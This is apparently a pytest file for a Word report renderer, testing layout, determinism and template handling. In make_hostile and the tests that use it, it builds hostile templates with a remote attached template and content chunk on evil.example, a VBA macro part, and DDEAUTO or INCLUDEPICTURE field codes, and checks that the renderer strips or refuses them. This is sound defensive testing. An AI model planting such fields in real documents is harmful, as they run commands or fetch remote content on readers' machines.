"""The Word file, read back: the sentences of the page, headings, headers, texts of pictures."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import datetime
from functools import cache
from pathlib import Path

import docx
import pandas as pd
import pytest
from docx.opc.packuri import PackURI
from docx.opc.part import Part
from docx.oxml import OxmlElement
from docx.oxml.ns import qn
from docx.shared import Inches

import partnet as pn
from partnet.core.results.shown import Column
from partnet.core.storage.making import is_same_making
from partnet.report.html import render_html
from partnet.report.model import (
    BarsBlock,
    Card,
    CardsBlock,
    FactsBlock,
    FigureBlock,
    ListBlock,
    MethodBlock,
    NoteBlock,
    Report,
    Section,
    TableBlock,
)
from partnet.report.office.word import MOST_ROWS, render_word
from partnet.report.office.word_page import WIDTH
from partnet.report.render import write_rendered
from partnet.views.crosstab import render_counts

from ..builders import make_network
from .test_report import HOSTILE, Tags

DAY = "2026-06-30"


@cache
def draw_counts() -> bytes:
    counts = pd.DataFrame({"here": [1, 2]}, index=["a", "b"])
    return render_counts(counts, "Counts", format="png")


def make_report(name: str = "Cedar Hospital") -> Report:
    """A report with every kind of block."""
    frame = pd.DataFrame({"name": [f"{name} {k}" for k in range(60)], "n": range(60)})
    columns = (Column("name", "Organization"), Column("n", "Ties", "count"))
    method = pn.describe_network(make_network("ab", ["ab"])).method
    blocks = (
        CardsBlock("Do first", (Card(f"Call {name}", "never seen", "through us", "this month"),)),
        FactsBlock((("organizations", "60"),)),
        FigureBlock("A picture", f"What it shows: {name}", b"<svg/>", draw_counts),
        FigureBlock("Another", "Only words are left", b"<svg/>"),
        BarsBlock("Most partners", ((name, 7),)),
        NoteBlock("What we do not know", "30 did not answer.", "data"),
        ListBlock("Ask first", (f"{name}: how?",)),
        TableBlock("Who is here", frame, columns, "Here", rows=50),
        TableBlock("Only in Excel", frame, columns, "More", rows=0),
        MethodBlock("Who is here", method),
    )
    sections = (Section("summary", "Summary", (f"{name} is here.",), blocks, "Summary"),)
    return Report(name, "As of today", sections, "A note.", "Written by partnet.")


def open_word(report: Report) -> docx.document.Document:
    return docx.Document(io.BytesIO(render_word(report)))


def list_texts(document: docx.document.Document) -> list[str]:
    cells = [c.text for t in document.tables for row in t.rows for c in row.cells]
    return [paragraph.text for paragraph in document.paragraphs] + cells


def test_what_the_page_says_the_file_says() -> None:
    report = pn.build_brief(pn.check_outcomes(pn.load_sample("prairie"), as_of=DAY))
    texts, page = list_texts(open_word(report)), Tags(render_html(report)).text
    for section in report.sections:
        for sentence in section.lead:
            assert sentence in texts and sentence in page
        for block in section.blocks:
            if isinstance(block, TableBlock) and block.rows:
                assert block.caption in texts
                assert set(block.frame["outcome"].head(block.rows)) <= set(texts)


def test_every_kind_of_block_is_written() -> None:
    texts = list_texts(open_word(make_report()))
    wanted = ("Cedar Hospital is here.", "60", "A picture", "Only words are left",
              "30 did not answer.", "1. Cedar Hospital: how?", "Who is here", "7")  # fmt: skip
    assert set(wanted) <= set(texts)
    assert any("Call Cedar Hospital. never seen · through us · this month" in t for t in texts)
    assert "20 more rows stand in the Excel report: “Here”." in texts
    assert "Only in Excel" not in texts


def test_headings_are_headings_and_headers_are_repeated() -> None:
    document = open_word(make_report())
    styles = {p.text: p.style.name for p in document.paragraphs}
    assert styles["Summary"] == "Heading 1" and styles["Do first"] == "Heading 2"
    for table in document.tables:
        first, *rest = (row._tr.trPr for row in table.rows)
        assert first.find(qn("w:tblHeader")) is not None
        assert not [row for row in rest if row.find(qn("w:tblHeader")) is not None]
    assert len(document.tables[-1].rows) == MOST_ROWS + 1


def test_pictures_have_a_text_and_fit_the_page() -> None:
    (picture,) = open_word(make_report()).inline_shapes
    assert picture._inline.docPr.get("descr") == "What it shows: Cedar Hospital"
    assert picture.width.inches <= WIDTH


def test_pages_are_numbered_and_bear_the_title() -> None:
    page = open_word(make_report()).sections[0]
    fields = [told.text for told in page.footer._element.iter(qn("w:instrText"))]
    assert fields == ["PAGE", "NUMPAGES"]
    assert page.header.paragraphs[0].text == "Cedar Hospital"


def test_a_brief_breaks_after_its_first_page() -> None:
    brief = pn.build_brief(pn.describe_network(make_network("ab", ["ab"])))
    breaks = [b for b in open_word(brief).element.iter(qn("w:br")) if b.get(qn("w:type")) == "page"]
    assert len(breaks) == 1
    whole = open_word(make_report())
    assert not [b for b in whole.element.iter(qn("w:br")) if b.get(qn("w:type")) == "page"]


def test_the_same_input_gives_the_same_bytes_without_a_clock() -> None:
    content = render_word(make_report())
    assert render_word(make_report()) == content
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        assert {part.date_time for part in parts.infolist()} == {(2000, 1, 1, 0, 0, 0)}
    about = docx.Document(io.BytesIO(content)).core_properties
    assert about.created.year == about.modified.year == 2000 and about.author == "partnet"


@pytest.mark.parametrize("name", [*HOSTILE, "\ufffe not a sign", "\x00"])
def test_hostile_names_are_text(name: str) -> None:
    document = open_word(make_report(name))
    assert not list(document.element.iter(qn("w:hyperlink")))
    assert len(document.tables) == 3


def test_a_report_replaces_a_report_and_no_work_of_a_person(tmp_path: Path) -> None:
    content = render_word(make_report())
    document = docx.Document(io.BytesIO(content))
    document.core_properties.modified = pd.Timestamp("2026-06-30").to_pydatetime()
    saved = io.BytesIO()
    document.save(saved)
    assert is_same_making(content, render_word(make_report("Other")))
    assert not is_same_making(saved.getvalue(), content)
    path = tmp_path / "brief.docx"
    pn.write_brief(pn.describe_network(make_network("ab", ["ab"])), path)
    assert docx.Document(str(path)).paragraphs[0].text == "Who is here"


def make_template(path: Path, *, kind: str = "document") -> Path:
    """A State's own file: another font, wide margins, a header; two styles were never used."""
    document = docx.Document()
    document.styles["Normal"].font.name = "Georgia"
    document.sections[0].left_margin = Inches(2)
    document.sections[0].header.paragraphs[0].text = "State of X"
    document.add_paragraph("Text of the template")
    for name in ("Caption", "Heading 2"):
        element = document.styles[name].element
        element.getparent().remove(element)
    out = io.BytesIO()
    document.save(out)
    with zipfile.ZipFile(out) as old, zipfile.ZipFile(path, "w") as new:
        for name in old.namelist():
            part = old.read(name).replace(
                b"ml.document.main+xml", b"ml.%s.main+xml" % kind.encode()
            )
            new.writestr(name, part)
    return path


@pytest.mark.parametrize(("name", "kind"), [("state.docx", "document"), ("state.dotx", "template")])
def test_a_template_gives_its_styles_and_not_its_text(name: str, kind: str, tmp_path: Path) -> None:
    template = make_template(tmp_path / name, kind=kind)
    content = render_word(make_report(), template=template)
    document = docx.Document(io.BytesIO(content))
    texts = list_texts(document)
    assert "Text of the template" not in texts and "Cedar Hospital is here." in texts
    assert document.styles["Normal"].font.name == "Georgia"
    assert document.sections[0].header.paragraphs[0].text == "State of X"
    assert {"Heading 1", "Heading 2", "Caption"} <= {p.style.name for p in document.paragraphs}
    assert document.inline_shapes[0].width.inches <= 8.5 - 2 - 1.25
    assert render_word(make_report(), template=template) == content


SCHEMA = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SECRET = "qzx of the last report"


def make_hostile(path: Path, field: str = "") -> Path:
    """A template with remarks, a source of data, a template of its own elsewhere, and macros."""
    document = docx.Document()
    document.add_comment(document.add_paragraph("x").runs, text=SECRET, author=SECRET)
    header = document.sections[0].header.paragraphs[0]
    header.add_run("State of X")
    code = OxmlElement("w:instrText")
    code.text = field
    header.add_run()._r.append(code)
    part = document.part.part_related_by(f"{SCHEMA}/settings")
    for tag in ("attachedTemplate", "mailMerge", "docVars"):
        part.element.append(OxmlElement(f"w:{tag}"))
    far = part.relate_to("http://evil.example/t.dotm", f"{SCHEMA}/attachedTemplate", True)
    part.element.find(qn("w:attachedTemplate")).set(qn("r:id"), far)
    document.part.relate_to("http://evil.example/x.html", f"{SCHEMA}/aFChunk", True)
    macros = Part(PackURI("/word/vbaProject.bin"), "application/vnd.ms-office.vbaProject", b"run")
    document.part.relate_to(
        macros, "http://schemas.microsoft.com/office/2006/relationships/vbaProject"
    )
    custom = Part(PackURI("/docProps/custom.xml"), "application/xml", SECRET.encode())
    document.part.package.relate_to(custom, f"{SCHEMA}/custom-properties")
    about = document.core_properties
    for name in ("author", "category", "comments", "content_status", "identifier", "keywords",
                 "language", "last_modified_by", "subject", "title", "version"):  # fmt: skip
        setattr(about, name, SECRET)
    about.last_printed = datetime(2024, 2, 29)
    document.save(str(path))
    return path


def test_a_template_gives_nothing_that_runs_fetches_or_remembers(tmp_path: Path) -> None:
    path = make_hostile(tmp_path / "state.docx", field="PAGE")
    words = (SECRET.encode(), b"evil.example", b"vbaProject", b"attachedTemplate", b"mailMerge",
             b"lastPrinted")  # fmt: skip
    with zipfile.ZipFile(path) as before:
        whole = b"".join(map(before.read, before.namelist()))
    assert all(word in whole for word in words)
    with zipfile.ZipFile(io.BytesIO(render_word(make_report(), template=path))) as after:
        kept = b"".join(map(after.read, after.namelist()))
    assert [word for word in words if word in kept] == [] and b"State of X" in kept


@pytest.mark.parametrize("field", ["DDEAUTO c:\\x.exe", " INCLUDEPICTURE http://x", "link Excel"])
def test_a_header_that_fetches_is_refused(tmp_path: Path, field: str) -> None:
    path = make_hostile(tmp_path / "state.docx", field=field)
    with pytest.raises(pn.UsageError, match=r"state\.docx, whose header fetches something"):
        render_word(make_report(), template=path)


def test_what_is_no_template_is_refused_before_the_work(tmp_path: Path) -> None:
    def fail() -> Report:
        raise AssertionError("the work began")

    (tmp_path / "bad.docx").write_bytes(b"PK no file of Word")
    (tmp_path / "notes.txt").write_text("notes", encoding="utf-8")
    good = make_template(tmp_path / "good.docx").read_bytes()
    locked = bytearray(good)
    for at in (found.start() for found in re.finditer(b"PK\x01\x02", good)):
        locked[at + 8] |= 1  # a password
    (tmp_path / "locked.docx").write_bytes(locked)
    with zipfile.ZipFile(make_template(tmp_path / "large.docx"), "a", zipfile.ZIP_DEFLATED) as out:
        out.writestr("word/media/a.png", bytes(100_000_001))
    for name in ("bad.docx", "notes.txt", "missing.dotx", "locked.docx", "large.docx"):
        with pytest.raises(pn.UsageError, match="cannot be read as a Word file"):
            write_rendered(fail, tmp_path / "out.docx", template=tmp_path / name)
    with pytest.raises(pn.UsageError, match="Only Word files"):
        write_rendered(fail, tmp_path / "out.html", template=tmp_path / "bad.docx")


def test_a_column_that_holds_nothing_takes_no_room() -> None:
    frame = pd.DataFrame({"name": ["a", "b"], "via": ["", ""], "n": [float("nan"), 2.0]})
    columns = (Column("name", "Organization"), Column("via", "Through"), Column("n", "Ties"))
    table = TableBlock("Here", frame, columns, "Here", rows=2)
    document = open_word(Report("R", "", (Section("a", "A", (), (table,)),), "", ""))
    assert [cell.text for cell in document.tables[0].rows[0].cells] == ["Organization", "Ties"]


def open_table(texts: list[list[str]]) -> docx.table.Table:
    """The only table of a report, whose first row are the headers."""
    labels, *rows = texts
    frame = pd.DataFrame(rows, columns=labels)
    block = TableBlock("Here", frame, tuple(Column(one, one) for one in labels), "Here", rows=40)
    document = open_word(Report("R", "", (Section("a", "A", (), (block,)),), "", ""))
    return document.tables[0]


WHY = "Both work with Meadowlark Regional Hospital and offer emergency care. " * 5
NAME = "Bow Creek Home Health and Hospice of Cedar and Dixon Counties"  # of 60 letters


def test_names_of_60_letters_leave_room_for_the_reason() -> None:
    """Six columns were of one width, however long a text: a row had 30 lines, a page one row."""
    labels = ["Organization", "Partner", "Through", "Other", "Why", "When"]
    table = open_table([labels, *([[NAME] * 4 + [WHY, "this month"]] * 8)])
    *names, why, _ = (column.width.inches for column in table.columns)
    assert why > 2 * max(names)
    assert len(WHY) / (why / 0.068) < 13  # lines


def test_a_table_too_full_for_its_columns_has_two() -> None:
    labels = ["Organization", *(f"Partner {k}" for k in range(7)), "When"]
    rows = [[f"{k} {NAME}"] * 8 + ["this month"] for k in range(8)]
    rows[3][2] = ""
    table = open_table([labels, *rows])
    said = [[cell.text for cell in row.cells] for row in table.rows]
    assert said[0] == [labels[0], " · ".join(labels[1:])]
    for row, (name, rest) in zip(rows, said[1:], strict=True):
        told = [f"{label}: {text}" for label, text in zip(labels[1:], row[1:], strict=True) if text]
        assert name == row[0] and rest == " · ".join(told)
    assert table.rows[0]._tr.trPr.find(qn("w:tblHeader")) is not None


def test_no_word_is_parted_where_there_is_room() -> None:
    """What is wide in any font counts as wide: "medium" had an m in the next line."""
    texts = [["Organization", "Need", "Why"], *([[NAME, "medium", WHY]] * 5)]
    assert open_table(texts).columns[1].width.inches > 0.6


@pytest.mark.parametrize("columns", [3, 5, 9])
def test_numbers_stay_in_columns(columns: int) -> None:
    texts = [[f"Measure {k}" for k in range(columns)], *([["0.123"] * columns] * 5)]
    assert len(open_table(texts).columns) == columns


def test_what_a_table_says_of_itself_has_the_order_of_the_format() -> None:
    """Word mends a file, or refuses it, where borders come behind the layout."""
    parts = [part.tag for part in open_table([["a", "b"], ["1", "2"]])._tbl.tblPr]
    wanted = [qn(f"w:{name}") for name in ("tblBorders", "tblLayout", "tblCellMar", "tblLook")]
    assert [part for part in parts if part in wanted] == wanted
